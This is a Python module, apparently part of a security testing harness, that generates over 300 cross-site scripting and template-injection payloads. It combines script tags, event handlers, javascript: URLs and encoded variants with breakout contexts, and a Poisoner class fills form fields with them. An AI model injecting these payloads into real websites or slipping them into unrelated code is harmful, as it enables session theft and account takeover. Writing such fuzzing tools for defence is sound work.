"""What an attacker would write into every field: vectors, each in several contexts."""

from collections import Counter

CALL = "hit()"
"""What a payload calls, if it runs."""
_VECTORS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt\n>{CALL}</sCrIpT\n>",
    f"<scr<script>ipt>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><script>{CALL}</script>",
    f"<math><mtext><script>{CALL}</script>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href=java&#9;script:{CALL}>x</a>",
    f"<form action=javascript:{CALL}><button>",
    f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content=0;javascript:{CALL}>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    f"<template shadowrootmode=open><script>{CALL}</script>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{{config}}{%include 'base.html'%}",
    f"${{{CALL}}}",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"\u202e<script>{CALL}</script>",
    f"\u2028{CALL}//",
)
_CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "-->{}",
    "</script>{}",
    f'" onfocus={CALL} x="{{}}',
)

PAYLOADS = [context.format(vector) for vector in _VECTORS for context in _CONTEXTS]
assert len(PAYLOADS) > 300


class Poisoner:
    """Fills fields with payloads: each field gets the next ones, until it has had all of them."""

    def __init__(self) -> None:
        self._at: Counter[str] = Counter()
        self.had: dict[str, set[str]] = {}

    def __call__(self, field: str, limit: int) -> str:
        """As many payloads as fit into `limit` characters, or the beginning of one."""
        start, chosen = self._at[field], list[str]()
        for payload in (PAYLOADS[start:] + PAYLOADS[:start])[: max(1, limit // 5)]:
            if chosen and len(" ".join([*chosen, payload])) > limit:
                break
            chosen.append(payload)
        self._at[field] = (start + len(chosen)) % len(PAYLOADS)
        self.had.setdefault(field, set()).update(each for each in chosen if len(each) <= limit)
        return " ".join(chosen)[:limit].strip()
